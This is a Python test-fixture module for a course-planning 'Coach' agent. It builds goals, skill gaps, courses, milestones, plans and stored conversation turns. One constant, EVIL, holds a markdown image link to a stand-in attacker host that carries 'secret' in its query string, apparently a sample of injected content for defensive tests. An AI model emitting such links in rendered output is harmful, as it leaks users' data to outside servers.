"""Literal data as the Coach's nodes leave it, and conversations that hold it."""

from datetime import UTC, date, datetime, timedelta
from typing import Any

from agent.ports import StoredPlan
from agent.workflows.coach.planning.contracts import (
    CourseInfo,
    Finding,
    Goal,
    LearningPlan,
    Milestone,
    SkillGap,
)
from ui import session

Plain = dict[str, Any]
Entries = list[tuple[str, Plain]]

EVIL = "![x](http://evil.example/?q=secret)"
NOW = datetime.now(UTC)


def on(days: int) -> str:
    """A date so many days from now."""
    return (NOW.date() + timedelta(days=days)).isoformat()


def goal(**more: Any) -> Plain:
    given: Plain = {
        "text": "I want to move into machine learning",
        "role": "machine_learning_engineer",
        "skills": {"python": 2, "statistics": 2},
        "level": 1,
        "hours_a_week": 6,
        "deadline": "2027-06-01",
        "course_language": "en",
        "budget": "free",
        "held": {"python": 1},
        "uncovered": ("quantum",),
    }
    return Goal(**{**given, **more}).model_dump(mode="json")


def gaps(**more: Any) -> Plain:
    found = [
        SkillGap(
            skill="statistics",
            name="Statistics",
            required=2,
            held=0,
            reason="Models are judged by it.",
        ),
        SkillGap(
            skill="python",
            name="Python",
            required=2,
            held=2,
            reason="Most of the tools are written for it.",
            evidence="7 of 9 quiz questions on Python",
        ),
    ]
    return {
        "gaps": [gap.model_dump(mode="json") for gap in found],
        "uncovered": [],
        "near": [],
        **more,
    }


def course(id_: str = "c1", **more: Any) -> Plain:
    given: Plain = {
        "id": id_,
        "title": "Introduction to Probability and Data",
        "url": "https://courses.example/probability",
        "description": "From distributions to confidence intervals, with exercises.",
        "difficulty": "beginner",
        "duration": "5 weeks",
        "hours": 30,
        "source": "catalogue",
        "provider": "courses.example",
        "skills": {"statistics": 2},
        "reason": "It begins from nothing and fits into six hours a week.",
        "checked": "2026-11-20",
    }
    return CourseInfo(**{**given, **more}).model_dump(mode="json")


COURSES = [
    course(),
    course(
        "c2",
        title="Machine Learning",
        url="https://learn.example/ml",
        difficulty="intermediate",
        duration="11 weeks",
        hours=66,
        source="web",
        skills={"machine_learning": 2, "python": 1},
        checked="2026-11-21",
        is_gone=True,
    ),
]


def courses(**more: Any) -> Plain:
    return {
        "courses": COURSES,
        "coverage": {
            "statistics": {"name": "Statistics", "required": 2, "by": {"c1": 2}},
            "machine_learning": {"name": "Machine learning", "required": 3, "by": {"c2": 2}},
            "deployment": {"name": "Deployment", "required": 1, "by": {}},
        },
        "dropped": 0,
        "notices": [],
        "round": 1,
        **more,
    }


def milestone(number: int = 1, **more: Any) -> Milestone:
    given: Plain = {
        "id": f"M{number}",
        "title": f"Step {number}",
        "outcome": "Read a study and say what its figures mean.",
        "skills": {"statistics": 2},
        "courses": ("c1",),
        "hours": 24,
        "start": on(28 * (number - 2)),
        "due": on(28 * (number - 1) - 1),
        "prerequisites": (f"M{number - 1}",) if number > 1 else (),
        "proof": "A notebook that tests a hypothesis on data of your own.",
        "tips": "Do the exercises by hand first.",
    }
    return Milestone(**{**given, **more})


def plan(*milestones: Milestone, **more: Any) -> Plain:
    steps = milestones or (
        milestone(1, title="Statistics from data", done=on(-3), proven="My notebook"),
        milestone(2, title="First models"),
        milestone(3, title="Models that hold up in use", courses=(), no_course="None is free."),
    )
    given: Plain = {
        "id": "p1",
        "goal": Goal(**goal()),
        "milestones": steps,
        "recommended_courses": tuple(CourseInfo(**each) for each in COURSES),
        "estimated_duration": "12 weeks",
        "created_at": (NOW - timedelta(days=30)).isoformat(),
        "status": "draft",
        "hours_a_week": 6,
        "start": steps[0].start,
        "findings": (),
    }
    return LearningPlan(**{**given, **more}).model_dump(mode="json")


def finding(sentence: str, **more: Any) -> Finding:
    return Finding(**{"rule": "deadline", "sentence": sentence, **more})


def change(**more: Any) -> Plain:
    given = {"milestone": "M2", "field": "due", "before": "2026-12-01", "after": "2026-12-15"}
    return {**given, **more}


def planned(of: Plain, **more: Any) -> Plain:
    return {"plan": of, "changes": [], "comment": "", "number": 1, **more}


def call(**more: Any) -> Plain:
    return {
        "agent": "course_advisor",
        "task": "find courses",
        "why": "the goal is complete",
        "loop": 2,
        "most": 10,
        "source": "rule",
        "at": NOW.isoformat(),
        **more,
    }


def progress(**more: Any) -> Plain:
    return {
        "plan_id": "p1",
        "done": 1,
        "of": 3,
        "hours": 20,
        "hours_planned": 72,
        "behind_days": 0,
        "changes": [],
        **more,
    }


def outcome(**more: Any) -> Plain:
    return {
        "text": "",
        "status": "done",
        "agent": "learning_planner",
        "at": NOW.isoformat(),
        "language": "en",
        **more,
    }


def keep(entries: Entries, *, text: str = "Teach me", thread: str = "") -> str:
    """A finished turn of the Coach."""
    ledger = session.graph_agent().ledger
    thread = thread or ledger.threads.create("local", "coach", title=text)
    turn = ledger.turns.append(thread, text, inputs={}, model="embedded")
    for n, (kind, data) in enumerate(entries):
        ledger.turns.put_entry(turn, f"{kind} {n}", kind=kind, data=data)
    ledger.turns.set_status(turn, "done")
    ledger.turns.keep(turn, messages=[], carry={})
    ledger.threads.set_status(thread, "done")
    return thread


def store(of: Plain, thread: str, *, status: str = "approved") -> None:
    """As the Coach keeps a plan when it was approved."""
    stored = StoredPlan(
        id=of["id"],
        thread=thread,
        title=of["goal"]["text"],
        status=status,
        at=NOW.isoformat(),
        plan={**of, "status": status},
    )
    session.graph_agent().ports.plans.put("local", stored)


def today() -> date:
    return NOW.date()
